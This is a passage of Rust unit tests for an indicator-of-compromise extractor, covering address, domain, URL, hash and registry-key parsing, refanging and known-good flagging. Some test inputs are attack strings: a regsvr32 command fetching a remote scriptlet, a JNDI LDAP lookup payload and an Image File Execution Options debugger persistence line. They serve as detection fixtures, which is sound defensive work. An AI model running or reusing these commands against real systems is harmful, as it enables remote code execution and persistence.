//! Unit tests for IOC extraction, one or a few per rule.

use super::*;

fn extractor() -> Extractor {
    Extractor::default()
}

/// Returns the extracted indicators as `(kind, value)` pairs.
fn pairs(text: &str) -> Vec<(IocKind, String)> {
    extractor()
        .extract(text)
        .into_iter()
        .map(|ioc| (ioc.kind, ioc.value))
        .collect()
}

/// Returns the values of one kind.
fn values(text: &str, kind: IocKind) -> Vec<String> {
    pairs(text)
        .into_iter()
        .filter(|(k, _)| *k == kind)
        .map(|(_, v)| v)
        .collect()
}

/// Returns the single indicator of `kind` with `value`, failing otherwise.
fn find(text: &str, kind: IocKind, value: &str) -> Ioc {
    let iocs = extractor().extract(text);
    iocs.iter()
        .find(|ioc| ioc.kind == kind && ioc.value == value)
        .cloned()
        .unwrap_or_else(|| panic!("no {kind} {value} in {iocs:?}"))
}

fn flags(text: &str, kind: IocKind, value: &str) -> Vec<IocFlag> {
    find(text, kind, value).flags
}

fn p(kind: IocKind, value: &str) -> (IocKind, String) {
    (kind, value.to_owned())
}

// --- kinds and normal forms ---

#[test]
fn ipv4_is_extracted_canonical() {
    assert_eq!(
        values("from 203.0.113.7 and 010.001.002.003", IocKind::Ipv4),
        ["203.0.113.7", "10.1.2.3"]
    );
}

#[test]
fn ipv4_with_port_is_address() {
    assert_eq!(
        values("to 10.10.10.5:8444 (tcp)", IocKind::Ipv4),
        ["10.10.10.5"]
    );
}

#[test]
fn ipv6_is_extracted_canonical() {
    assert_eq!(
        values("peer 2001:DB8:0:0:0:0:0:1 seen", IocKind::Ipv6),
        ["2001:db8::1"]
    );
    assert_eq!(
        values("listening on [fe80::1]:443", IocKind::Ipv6),
        ["fe80::1"]
    );
}

#[test]
fn ipv4_cidr_is_normalized_to_network() {
    assert_eq!(
        pairs("block 198.51.100.77/24 now"),
        [p(IocKind::Cidr, "198.51.100.0/24")]
    );
}

#[test]
fn ipv6_cidr_is_extracted() {
    assert_eq!(
        pairs("range 2001:db8:aa::/48"),
        [p(IocKind::Cidr, "2001:db8:aa::/48")]
    );
}

#[test]
fn domain_is_lowercased() {
    assert_eq!(
        pairs("beacon to Evil-Cdn.Example.COM."),
        [p(IocKind::Domain, "evil-cdn.example.com")]
    );
}

#[test]
fn url_of_any_scheme_is_extracted() {
    for url in [
        "tcp://198.51.100.9:4444",
        "ldap://dc.example.org:389/cn=x",
        "ftp://files.example.net/a.bin",
        "smb://share.example.com/c$",
        "https://login.example.com/auth?next=/home#top",
    ] {
        assert_eq!(values(&format!("seen {url} there"), IocKind::Url), [url]);
    }
}

#[test]
fn url_scheme_and_host_are_lowercased() {
    assert_eq!(
        values("HTTPS://WWW.Example.COM/Path/A", IocKind::Url),
        ["https://www.example.com/Path/A"]
    );
}

#[test]
fn url_yields_host_after_it() {
    assert_eq!(
        pairs("get http://cdn.example.com/x.js"),
        [
            p(IocKind::Url, "http://cdn.example.com/x.js"),
            p(IocKind::Domain, "cdn.example.com"),
        ]
    );
    assert_eq!(
        pairs("get http://[2001:db8::5]:8080/a"),
        [
            p(IocKind::Url, "http://[2001:db8::5]:8080/a"),
            p(IocKind::Ipv6, "2001:db8::5"),
        ]
    );
    assert_eq!(
        pairs("get http://192.0.2.4/case"),
        [
            p(IocKind::Url, "http://192.0.2.4/case"),
            p(IocKind::Ipv4, "192.0.2.4"),
        ]
    );
}

#[test]
fn url_with_credentials_keeps_them() {
    assert_eq!(
        values("ftp://user:pw@files.example.com/x", IocKind::Url),
        ["ftp://user:pw@files.example.com/x"]
    );
    assert_eq!(
        values("ftp://user:pw@files.example.com/x", IocKind::Domain),
        ["files.example.com"]
    );
}

#[test]
fn url_with_single_label_host_is_private() {
    let text = "wpad from http://wpad/wpad.dat and http://localhost:8080/x";
    assert_eq!(
        flags(text, IocKind::Url, "http://wpad/wpad.dat"),
        [IocFlag::Private]
    );
    assert_eq!(
        flags(text, IocKind::Url, "http://localhost:8080/x"),
        [IocFlag::Loopback]
    );
    assert!(values(text, IocKind::Domain).is_empty());
}

#[test]
fn url_with_unknown_tld_is_not_url() {
    assert!(pairs("http://evil.notatld/x").is_empty());
}

#[test]
fn email_yields_domain() {
    assert_eq!(
        pairs("from Jane.Doe+tag@Mail.Example.org today"),
        [
            p(IocKind::Email, "jane.doe+tag@mail.example.org"),
            p(IocKind::Domain, "mail.example.org"),
        ]
    );
}

#[test]
fn hashes_are_lowercased() {
    let md5 = "D41D8CD98F00B204E9800998ECF8427F";
    let sha1 = "DA39A3EE5E6B4B0D3255BFEF95601890AFD80708";
    let sha256 = "9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08";
    assert_eq!(
        pairs(&format!("{md5} {sha1} {sha256}")),
        [
            p(IocKind::Md5, &md5.to_lowercase()),
            p(IocKind::Sha1, &sha1.to_lowercase()),
            p(IocKind::Sha256, &sha256.to_lowercase()),
        ]
    );
}

#[test]
fn hash_inside_longer_hex_is_not_hash() {
    let hex65 = format!(
        "{}a",
        "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
    );
    assert!(pairs(&hex65).is_empty());
}

#[test]
fn placeholder_hex_is_not_hash() {
    assert!(pairs(&"0".repeat(32)).is_empty());
    assert!(pairs(&"1234567890".repeat(4)).is_empty());
}

#[test]
fn guid_is_not_hash() {
    assert!(pairs("{b59756a9-8990-5f17-a879-450200000000}").is_empty());
}

#[test]
fn base64_is_not_hash() {
    assert!(pairs("-enc SQBGACgAJABQAFMAVgBFAHIAcwBJAG8ATgBUAGEAQgBMAGUALgBQAFMAVgBF").is_empty());
}

#[test]
fn imphash_is_skipped() {
    let text = "Hashes: SHA1=8A00AD3F91F4DF913A49C6083F48F9530CCF5326,MD5=578BAB56836A3FE455FFC7883041825B,IMPHASH=0235FF9A007804882636BCCCFB4D1A2F";
    assert_eq!(
        pairs(text),
        [
            p(IocKind::Sha1, "8a00ad3f91f4df913a49c6083f48f9530ccf5326"),
            p(IocKind::Md5, "578bab56836a3fe455ffc7883041825b"),
        ]
    );
}

#[test]
fn filename_from_windows_path() {
    assert_eq!(
        values(
            r"C:\Users\bob\AppData\Local\Temp\update_v2.exe ran",
            IocKind::Filename
        ),
        ["update_v2.exe"]
    );
    assert_eq!(
        values("/tmp/.x/kworker.sh", IocKind::Filename),
        ["kworker.sh"]
    );
}

#[test]
fn filename_keeps_case_and_dedups_without_case() {
    assert_eq!(
        values("Evil.EXE then evil.exe then EVIL.exe", IocKind::Filename),
        ["Evil.EXE"]
    );
}

#[test]
fn registry_key_short_hive() {
    assert_eq!(
        values(
            r"set HKCU\Software\Microsoft\Windows\CurrentVersion\Run\Updater now",
            IocKind::RegistryKey
        ),
        [r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\Updater"]
    );
}

#[test]
fn registry_key_long_hive_is_shortened() {
    assert_eq!(
        values(
            r"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\evil",
            IocKind::RegistryKey
        ),
        [r"HKLM\SYSTEM\CurrentControlSet\Services\evil"]
    );
    assert_eq!(
        values(r"HKEY_USERS\S-1-5-21-1\Environment", IocKind::RegistryKey),
        [r"HKU\S-1-5-21-1\Environment"]
    );
}

#[test]
fn registry_key_powershell_and_kernel_forms() {
    assert_eq!(
        values(r"Get-Item HKLM:\SOFTWARE\Classes\x", IocKind::RegistryKey),
        [r"HKLM\SOFTWARE\Classes\x"]
    );
    assert_eq!(
        values(
            r"TargetObject: \REGISTRY\MACHINE\SOFTWARE\Policies\x",
            IocKind::RegistryKey
        ),
        [r"HKLM\SOFTWARE\Policies\x"]
    );
}

#[test]
fn registry_key_space_inside_name() {
    let text = r"added HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon Shell value";
    assert_eq!(
        values(text, IocKind::RegistryKey),
        [r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon"]
    );
}

#[test]
fn registry_key_stops_before_path_argument() {
    let text = r"reg add HKCU\Software\Run C:\Users\x\evil.exe";
    assert_eq!(values(text, IocKind::RegistryKey), [r"HKCU\Software\Run"]);
    assert_eq!(values(text, IocKind::Filename), ["evil.exe"]);
}

#[test]
fn registry_key_quoted_keeps_spaces() {
    let text = r#"reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger"#;
    assert_eq!(
        values(text, IocKind::RegistryKey),
        [
            r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe"
        ]
    );
}

#[test]
fn registry_key_in_json_escapes() {
    let text = r#"{"TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\x\\Start", "Details": "DWORD (0x00000002)\r\n"}"#;
    assert_eq!(
        values(text, IocKind::RegistryKey),
        [r"HKLM\System\CurrentControlSet\Services\x\Start"]
    );
}

#[test]
fn registry_key_escaped_outside_json_line() {
    let text = r#"log: "HKCU\\Software\\Run\\x\r\nNext""#;
    assert_eq!(values(text, IocKind::RegistryKey), [r"HKCU\Software\Run\x"]);
}

#[test]
fn dedup_keeps_first_appearance_order() {
    let text = "evil.example.com 192.0.2.1 http://evil.example.com/a 192.0.2.1 evil.example.com";
    assert_eq!(
        pairs(text),
        [
            p(IocKind::Domain, "evil.example.com"),
            p(IocKind::Ipv4, "192.0.2.1"),
            p(IocKind::Url, "http://evil.example.com/a"),
        ]
    );
}

// --- refanging ---

#[test]
fn hxxp_in_any_case_is_refanged() {
    assert_eq!(
        values(
            "hXXps://evil.example.com/a hxxp://b.example.com",
            IocKind::Url
        ),
        ["https://evil.example.com/a", "http://b.example.com"]
    );
}

#[test]
fn fxp_is_refanged_to_ftp() {
    assert_eq!(
        values("fxp://files.example.org/x", IocKind::Url),
        ["ftp://files.example.org/x"]
    );
}

#[test]
fn bracketed_dots_are_refanged() {
    for text in [
        "evil[.]example[.]com",
        "evil(.)example(.)com",
        "evil{.}example{.}com",
        "evil[dot]example[DOT]com",
        "evil(dot)example(dot)com",
        "evil [dot] example [dot] com",
        "evil [.] example [.] com",
    ] {
        assert_eq!(
            values(text, IocKind::Domain),
            ["evil.example.com"],
            "{text}"
        );
    }
}

#[test]
fn bracketed_colon_and_slashes_are_refanged() {
    for text in [
        "hxxp[:]//evil.example.com/a",
        "hxxp[://]evil.example.com/a",
        "http[:]//evil[.]example[.]com/a",
    ] {
        assert_eq!(
            values(text, IocKind::Url),
            ["http://evil.example.com/a"],
            "{text}"
        );
    }
}

#[test]
fn defanged_at_is_refanged() {
    for text in [
        "jane[@]example.org",
        "jane(at)example.org",
        "jane[at]example.org",
        "jane [at] example [dot] org",
    ] {
        assert_eq!(values(text, IocKind::Email), ["jane@example.org"], "{text}");
    }
}

#[test]
fn prose_words_are_not_refanged() {
    assert!(pairs("meet (at least) twice, see (dot) notes").is_empty());
}

#[test]
fn dot_dash_in_name_is_not_fanged() {
    assert_eq!(
        values("accounts.dot-star.example.com", IocKind::Domain),
        ["accounts.dot-star.example.com"]
    );
}

#[test]
fn stray_brackets_by_a_dot_are_dropped() {
    assert_eq!(
        values("198.51.100.]]]165", IocKind::Ipv4),
        ["198.51.100.165"]
    );
    assert_eq!(
        values("198.51.100]].165", IocKind::Ipv4),
        ["198.51.100.165"]
    );
}

// --- Slack and wrapping ---

#[test]
fn slack_wrapped_domain_is_domain() {
    assert_eq!(
        pairs("beacon to <http://cdn.example.net|cdn.example.net>"),
        [p(IocKind::Domain, "cdn.example.net")]
    );
}

#[test]
fn slack_wrapped_url_is_url() {
    assert_eq!(
        values("see <https://evil.example.com/a?b=1&amp;c=2>", IocKind::Url),
        ["https://evil.example.com/a?b=1&c=2"]
    );
}

#[test]
fn slack_link_with_other_label_keeps_both() {
    let text = "<http://evil.example.com/login|https://bank.example.org>";
    assert_eq!(
        values(text, IocKind::Url),
        ["http://evil.example.com/login", "https://bank.example.org"]
    );
}

#[test]
fn slack_mailto_is_email() {
    assert_eq!(
        pairs("<mailto:phish@example.com|phish@example.com>"),
        [
            p(IocKind::Email, "phish@example.com"),
            p(IocKind::Domain, "example.com"),
        ]
    );
}

#[test]
fn slack_mentions_are_not_indicators() {
    assert!(pairs("<@U024BE7LH> in <#C024BE7LR|general> <!here>").is_empty());
}

#[test]
fn entities_are_decoded() {
    assert_eq!(
        values("a &lt;evil.example.com&gt; b", IocKind::Domain),
        ["evil.example.com"]
    );
}

#[test]
fn wrapping_punctuation_is_stripped() {
    let text = r#"("evil.example.com"), `198.51.100.1`, [bad.example.org], 'x.example.net'; **y.example.com** _z.example.com_"#;
    assert_eq!(
        values(text, IocKind::Domain),
        [
            "evil.example.com",
            "bad.example.org",
            "x.example.net",
            "y.example.com",
            "z.example.com"
        ]
    );
    assert_eq!(values(text, IocKind::Ipv4), ["198.51.100.1"]);
}

#[test]
fn url_trailing_punctuation_is_stripped() {
    assert_eq!(
        values(
            "(see http://a.example.com/x). Then http://b.example.com/y, ok",
            IocKind::Url
        ),
        ["http://a.example.com/x", "http://b.example.com/y"]
    );
}

#[test]
fn url_balanced_parentheses_are_kept() {
    assert_eq!(
        values("http://wiki.example.org/A_(b)", IocKind::Url),
        ["http://wiki.example.org/A_(b)"]
    );
}

#[test]
fn markdown_link_gives_url() {
    assert_eq!(
        values("[payload](http://evil.example.com/p.exe)", IocKind::Url),
        ["http://evil.example.com/p.exe"]
    );
}

// --- no false positives ---

#[test]
fn version_string_is_not_ipv4() {
    for text in [
        "engine: IT Hit WebDAV Server .Net v2.1.1.108",
        "agent 2.21.7.14-play-release",
        "version 1.2.3.4",
        "FileVersion: 10.0.1.1",
        "build 6.1.7.6",
        "OID 1.3.6.1.4.1.311",
        "10.0.18362.1 (WinBuild.160101.0800)",
    ] {
        assert!(pairs(text).is_empty(), "{text}: {:?}", pairs(text));
    }
}

#[test]
fn time_is_not_ipv6() {
    for text in [
        "at 03:27:53",
        "2020-07-22T03:27:53Z",
        "2020-07-22T03:27:53.548Z",
        "03:27:57Z..03:28:28Z",
        "between 12::30 and 13::00",
        "UtcTime: 2020-07-22 03:27:52.809",
    ] {
        assert!(values(text, IocKind::Ipv6).is_empty(), "{text}");
        assert!(pairs(text).is_empty(), "{text}: {:?}", pairs(text));
    }
}

#[test]
fn fingerprint_is_not_ipv6() {
    assert!(pairs("ssh fingerprint 43:51:43:a1:b5:fc:8b:b7:0a:3a:a9:b1:0f:66:73:a8").is_empty());
    assert!(pairs("mac 00:1a:2b:3c:4d:5e").is_empty());
}

#[test]
fn tiny_ipv6_forms_are_not_ipv6() {
    assert!(values("Foo::Bar a::b 1::", IocKind::Ipv6).is_empty());
    assert_eq!(values("bound to ::1", IocKind::Ipv6), ["::1"]);
}

#[test]
fn av_signature_is_not_domain() {
    for text in [
        "Trojan:Win32/Emotet.A!ml",
        "HEUR:Trojan.Win32.Generic",
        "Win.Trojan.Agent-123",
        "Trojan-Downloader.Win32.Agent.app",
        "Backdoor.MSIL.Bank",
    ] {
        assert!(pairs(text).is_empty(), "{text}: {:?}", pairs(text));
    }
}

#[test]
fn dotnet_identifier_is_not_domain() {
    for text in [
        "Microsoft.Windows",
        "System.Windows.Forms",
        "[Microsoft.PowerShell.Commands]",
        "New-Object Net.WebClient",
    ] {
        assert!(pairs(text).is_empty(), "{text}: {:?}", pairs(text));
    }
}

#[test]
fn camel_case_under_legacy_tld_is_domain() {
    assert_eq!(
        values("PayPal-Login.com", IocKind::Domain),
        ["paypal-login.com"]
    );
}

#[test]
fn file_extension_wins_over_tld() {
    assert_eq!(
        pairs("ran setup.py, dropped report.zip and virus.exe"),
        [
            p(IocKind::Filename, "setup.py"),
            p(IocKind::Filename, "report.zip"),
            p(IocKind::Filename, "virus.exe"),
        ]
    );
}

#[test]
fn url_host_with_extension_tld_is_domain() {
    assert_eq!(
        pairs("http://evil.zip/a"),
        [
            p(IocKind::Url, "http://evil.zip/a"),
            p(IocKind::Domain, "evil.zip"),
        ]
    );
}

#[test]
fn unknown_tld_is_not_domain() {
    assert!(pairs("e.g. i.e. foo.bar123 a.b obj.method() x.y.z").is_empty());
}

#[test]
fn cidr_is_not_url() {
    assert_eq!(
        pairs("egress to 192.0.2.0/24"),
        [p(IocKind::Cidr, "192.0.2.0/24")]
    );
}

#[test]
fn scheme_less_path_gives_domain_and_filename() {
    assert_eq!(
        pairs("evil.example.com/gate.php"),
        [
            p(IocKind::Domain, "evil.example.com"),
            p(IocKind::Filename, "gate.php"),
        ]
    );
}

#[test]
fn hash_on_next_line_stays_apart() {
    let text = "hxxp://stage.example[.]com/p\n9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
    assert_eq!(
        pairs(text),
        [
            p(IocKind::Url, "http://stage.example.com/p"),
            p(IocKind::Domain, "stage.example.com"),
            p(
                IocKind::Sha256,
                "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
            ),
        ]
    );
}

#[test]
fn url_inside_url_is_kept_whole() {
    let url =
        "http://track.example.com/L0/http:%2F%2Fwww.example.org%2Fcourse%23content/1/0100016e";
    assert_eq!(values(url, IocKind::Url), [url]);
    // The redirect stays whole, and its target is an indicator of its own.
    let redirect = "https://r.example.com/go?u=http://evil.example.net/x";
    assert_eq!(
        values(redirect, IocKind::Url),
        [redirect, "http://evil.example.net/x"]
    );
    assert_eq!(
        values(redirect, IocKind::Domain),
        ["r.example.com", "evil.example.net"]
    );
}

#[test]
fn comma_separated_urls_are_split() {
    assert_eq!(
        values(
            "http://a.example.com/x,http://b.example.com/y",
            IocKind::Url
        ),
        ["http://a.example.com/x", "http://b.example.com/y"]
    );
}

#[test]
fn jndi_lookup_gives_ldap_url() {
    assert_eq!(
        pairs("${jndi:ldap://a1b2c3.example.com:1389/a}"),
        [
            p(IocKind::Url, "ldap://a1b2c3.example.com:1389/a"),
            p(IocKind::Domain, "a1b2c3.example.com"),
        ]
    );
}

#[test]
fn json_line_escapes_are_decoded() {
    let text = r#"{"CommandLine": "\"C:\\windows\\system32\\regsvr32.exe\" /i:http://10.10.10.5:8444/launcher.sct scrobj.dll\r\nnext.example.com"}"#;
    assert_eq!(
        pairs(text),
        [
            p(IocKind::Filename, "regsvr32.exe"),
            p(IocKind::Url, "http://10.10.10.5:8444/launcher.sct"),
            p(IocKind::Ipv4, "10.10.10.5"),
            p(IocKind::Filename, "scrobj.dll"),
            p(IocKind::Domain, "next.example.com"),
        ]
    );
}

#[test]
fn plain_backslash_path_is_not_json_escape() {
    assert_eq!(values(r"C:\temp\new.exe", IocKind::Filename), ["new.exe"]);
}

#[test]
fn windows_host_name_is_private_domain() {
    assert_eq!(
        flags(
            "Hostname: WORKSTATION5.mordor.local",
            IocKind::Domain,
            "workstation5.mordor.local"
        ),
        [IocFlag::Private]
    );
}

// --- flags ---

#[test]
fn private_addresses_are_flagged() {
    for ip in [
        "10.1.2.3",
        "172.16.0.1",
        "172.31.255.255",
        "192.168.1.1",
        "100.64.0.1",
        "100.127.255.254",
    ] {
        assert_eq!(flags(ip, IocKind::Ipv4, ip), [IocFlag::Private], "{ip}");
    }
    assert_eq!(
        flags("fd12:3456::1", IocKind::Ipv6, "fd12:3456::1"),
        [IocFlag::Private]
    );
}

#[test]
fn addresses_next_to_private_ranges_are_not_flagged() {
    for ip in ["172.32.0.1", "100.128.0.1", "11.0.0.1", "8.8.8.8"] {
        assert!(flags(ip, IocKind::Ipv4, ip).is_empty(), "{ip}");
    }
}

#[test]
fn special_ipv4_ranges_are_flagged() {
    let cases = [
        ("127.0.0.1", IocFlag::Loopback),
        ("169.254.10.1", IocFlag::LinkLocal),
        ("224.0.0.251", IocFlag::Multicast),
        ("0.1.2.3", IocFlag::Reserved),
        ("240.0.0.1", IocFlag::Reserved),
        ("255.255.255.255", IocFlag::Reserved),
        ("198.18.0.1", IocFlag::Reserved),
        ("192.0.2.10", IocFlag::Documentation),
        ("198.51.100.10", IocFlag::Documentation),
        ("203.0.113.10", IocFlag::Documentation),
    ];
    for (ip, flag) in cases {
        assert_eq!(flags(ip, IocKind::Ipv4, ip), [flag], "{ip}");
    }
}

#[test]
fn special_ipv6_ranges_are_flagged() {
    let cases = [
        ("::1", IocFlag::Loopback),
        ("fe80::abcd", IocFlag::LinkLocal),
        ("ff02::fb", IocFlag::Multicast),
        ("2001:db8::dead", IocFlag::Documentation),
        ("fc00::beef", IocFlag::Private),
    ];
    for (ip, flag) in cases {
        assert_eq!(flags(ip, IocKind::Ipv6, ip), [flag], "{ip}");
    }
    assert!(flags("2606:4700::1111", IocKind::Ipv6, "2606:4700::1111").is_empty());
}

#[test]
fn ipv4_mapped_ipv6_takes_ipv4_flags() {
    assert_eq!(
        flags("::ffff:10.0.0.1", IocKind::Ipv6, "::ffff:10.0.0.1"),
        [IocFlag::Private]
    );
}

#[test]
fn cidr_takes_flags_of_overlapping_ranges() {
    assert_eq!(
        flags("10.20.0.0/16", IocKind::Cidr, "10.20.0.0/16"),
        [IocFlag::Private]
    );
    let all = flags("0.0.0.0/0", IocKind::Cidr, "0.0.0.0/0");
    for flag in [
        IocFlag::Private,
        IocFlag::Loopback,
        IocFlag::Reserved,
        IocFlag::Documentation,
    ] {
        assert!(all.contains(&flag), "{flag} missing from {all:?}");
    }
    assert!(flags("8.8.8.0/24", IocKind::Cidr, "8.8.8.0/24").is_empty());
}

#[test]
fn reserved_domain_names_are_flagged() {
    let cases = [
        ("example.com", IocFlag::Documentation),
        ("www.example.net", IocFlag::Documentation),
        ("a.example.org", IocFlag::Documentation),
        ("shop.example", IocFlag::Documentation),
        ("lab.test", IocFlag::Documentation),
        ("nothing.invalid", IocFlag::Reserved),
        ("app.localhost", IocFlag::Loopback),
        ("printer.home.arpa", IocFlag::Private),
        ("dc01.corp.internal", IocFlag::Private),
    ];
    for (domain, flag) in cases {
        assert_eq!(flags(domain, IocKind::Domain, domain), [flag], "{domain}");
    }
    assert!(flags("notexample.com", IocKind::Domain, "notexample.com").is_empty());
}

#[test]
fn url_and_email_inherit_host_flags() {
    let text = "http://10.1.1.1/x http://www.microsoft.com/y jane@example.com";
    assert_eq!(
        flags(text, IocKind::Url, "http://10.1.1.1/x"),
        [IocFlag::Private]
    );
    assert_eq!(
        flags(text, IocKind::Url, "http://www.microsoft.com/y"),
        [IocFlag::KnownGood]
    );
    assert_eq!(
        flags(text, IocKind::Email, "jane@example.com"),
        [IocFlag::Documentation]
    );
}

#[test]
fn empty_file_hashes_are_known_good() {
    for hash in [
        "d41d8cd98f00b204e9800998ecf8427e",
        "da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    ] {
        let text = hash.to_uppercase();
        let ioc = extractor().extract(&text).remove(0);
        assert_eq!(ioc.value, hash);
        assert_eq!(ioc.flags, [IocFlag::KnownGood], "{hash}");
    }
}

#[test]
fn known_good_domain_covers_subdomains() {
    assert_eq!(
        flags("microsoft.com", IocKind::Domain, "microsoft.com"),
        [IocFlag::KnownGood]
    );
    assert_eq!(
        flags(
            "login.microsoftonline.com",
            IocKind::Domain,
            "login.microsoftonline.com"
        ),
        [IocFlag::KnownGood]
    );
    assert!(
        flags(
            "microsoft.com.evil.net",
            IocKind::Domain,
            "microsoft.com.evil.net"
        )
        .is_empty()
    );
    assert!(flags("notmicrosoft.com", IocKind::Domain, "notmicrosoft.com").is_empty());
}

#[test]
fn known_good_domain_stops_at_shared_hosting() {
    let mut known_good = KnownGood::default();
    known_good
        .extend_from_str("domain amazonaws.com\ndomain blogspot.com")
        .unwrap();
    let extractor = Extractor::new(known_good);
    let iocs =
        extractor.extract("evil-bucket.s3.amazonaws.com attacker.blogspot.com amazonaws.com");
    let flagged: Vec<(&str, bool)> = iocs
        .iter()
        .map(|ioc| (ioc.value.as_str(), ioc.has_flag(IocFlag::KnownGood)))
        .collect();
    assert_eq!(
        flagged,
        [
            ("evil-bucket.s3.amazonaws.com", false),
            ("attacker.blogspot.com", false),
            ("amazonaws.com", true),
        ]
    );
}

#[test]
fn lolbins_are_known_good_in_any_case() {
    for name in [
        "regsvr32.exe",
        "RUNDLL32.EXE",
        "powershell.exe",
        "scrobj.dll",
        "Mshta.exe",
    ] {
        assert_eq!(
            flags(name, IocKind::Filename, name),
            [IocFlag::KnownGood],
            "{name}"
        );
    }
    assert!(flags("regsvr33.exe", IocKind::Filename, "regsvr33.exe").is_empty());
}

// --- known-good lists ---

#[test]
fn shipped_lists_parse() {
    let shipped = KnownGood::shipped();
    assert!(shipped.len() > 200, "only {} entries", shipped.len());
    assert!(KnownGood::default().is_empty());
}

#[test]
fn operator_list_extends_shipped() {
    let mut known_good = KnownGood::shipped();
    let text = "\
# our own infrastructure
cidr 198.51.100.0/24   # egress proxies
ipv4 203.0.113.9
domain corp-sso[.]example.net
sha256 9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08
filename OurAgent.exe
registry_key HKEY_LOCAL_MACHINE\\SOFTWARE\\Our Vendor\\Agent
url https://portal.example.org/login#sso
email soc@example.com
";
    known_good.extend_from_str(text).unwrap();
    let extractor = Extractor::new(known_good);
    let input = "198.51.100.77 203.0.113.9 id.corp-sso.example.net \
        9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 ouragent.exe \
        \"HKLM\\SOFTWARE\\Our Vendor\\Agent\" https://portal.example.org/login#sso soc@example.com";
    let iocs = extractor.extract(input);
    let known_good: Vec<(IocKind, &str)> = iocs
        .iter()
        .filter(|ioc| ioc.has_flag(IocFlag::KnownGood))
        .map(|ioc| (ioc.kind, ioc.value.as_str()))
        .collect();
    assert_eq!(
        known_good,
        [
            (IocKind::Ipv4, "198.51.100.77"),
            (IocKind::Ipv4, "203.0.113.9"),
            (IocKind::Domain, "id.corp-sso.example.net"),
            (
                IocKind::Sha256,
                "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
            ),
            (IocKind::Filename, "ouragent.exe"),
            (IocKind::RegistryKey, r"HKLM\SOFTWARE\Our Vendor\Agent"),
            (IocKind::Url, "https://portal.example.org/login#sso"),
            (IocKind::Email, "soc@example.com"),
        ]
    );
}

#[test]
fn known_good_error_names_line_and_value() {
    let mut known_good = KnownGood::default();
    let error = known_good
        .extend_from_str("domain ok.example.com\n\nsha256 nothex\n")
        .unwrap_err();
    assert_eq!(
        error,
        KnownGoodError::InvalidValue {
            line: 3,
            kind: IocKind::Sha256,
            value: "nothex".to_owned(),
        }
    );
    assert_eq!(
        error.to_string(),
        "line 3: `nothex` is not a valid sha256 value"
    );
    assert!(known_good.is_empty(), "a bad file adds nothing");
}

#[test]
fn known_good_error_unknown_kind_and_missing_value() {
    let mut known_good = KnownGood::default();
    let error = known_good
        .extend_from_str("hostname evil.example.com")
        .unwrap_err();
    assert_eq!(
        error,
        KnownGoodError::UnknownKind {
            line: 1,
            kind: "hostname".to_owned(),
        }
    );
    let error = known_good.extend_from_str("# c\ndomain").unwrap_err();
    assert_eq!(
        error,
        KnownGoodError::MissingValue {
            line: 2,
            text: "domain".to_owned(),
        }
    );
}

#[test]
fn known_good_kind_must_match_value() {
    let mut known_good = KnownGood::default();
    let error = known_good
        .extend_from_str("md5 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855")
        .unwrap_err();
    assert!(matches!(
        error,
        KnownGoodError::InvalidValue {
            line: 1,
            kind: IocKind::Md5,
            ..
        }
    ));
}

// --- defanged output ---

fn defanged(kind: IocKind, value: &str) -> String {
    Ioc {
        kind,
        value: value.to_owned(),
        flags: Vec::new(),
    }
    .defanged()
}

#[test]
fn defanged_url_breaks_scheme_and_host() {
    assert_eq!(
        defanged(IocKind::Url, "http://10.10.10.5:8444/launcher.sct"),
        "hxxp://10[.]10[.]10[.]5:8444/launcher.sct"
    );
    assert_eq!(
        defanged(IocKind::Url, "https://login.example.com/a.b"),
        "hxxps://login[.]example[.]com/a.b"
    );
    assert_eq!(
        defanged(IocKind::Url, "ftp://f.example.org/x"),
        "fxp://f[.]example[.]org/x"
    );
    assert_eq!(
        defanged(IocKind::Url, "ldap://a1b2c3.example.com:1389/a"),
        "ldap://a1b2c3[.]example[.]com:1389/a"
    );
    assert_eq!(
        defanged(IocKind::Url, "ftp://user:pw@f.example.org/x"),
        "fxp://user:pw[@]f[.]example[.]org/x"
    );
    assert_eq!(
        defanged(IocKind::Url, "http://[2001:db8::1]:80/a"),
        "hxxp://[2001:db8::1]:80/a"
    );
}

#[test]
fn defanged_url_inside_url() {
    assert_eq!(
        defanged(
            IocKind::Url,
            "https://evil.example.com/r?u=https://inner.example.net/x"
        ),
        "hxxps://evil[.]example[.]com/r?u=hxxps://inner[.]example[.]net/x"
    );
    assert_eq!(
        defanged(
            IocKind::Url,
            "http://a.example.com/go/HTTP://b.example.org/p.sct"
        ),
        "hxxp://a[.]example[.]com/go/hxxp://b[.]example[.]org/p.sct"
    );
    assert_eq!(
        defanged(
            IocKind::Url,
            "http://a.example.com/1?u=http://b.example.org/2?v=ftp://c.example.net"
        ),
        "hxxp://a[.]example[.]com/1?u=hxxp://b[.]example[.]org/2?v=fxp://c[.]example[.]net"
    );
}

#[test]
fn nested_url_is_extracted() {
    let text = "redirect: https://evil.example.com/r?u=https://inner.example.net/x&ip=192.0.2.7";
    let found: Vec<(IocKind, String)> = extractor()
        .extract(text)
        .into_iter()
        .map(|ioc| (ioc.kind, ioc.value))
        .collect();
    assert_eq!(
        found,
        vec![
            (
                IocKind::Url,
                "https://evil.example.com/r?u=https://inner.example.net/x&ip=192.0.2.7".to_string()
            ),
            (IocKind::Domain, "evil.example.com".to_string()),
            (IocKind::Url, "https://inner.example.net/x".to_string()),
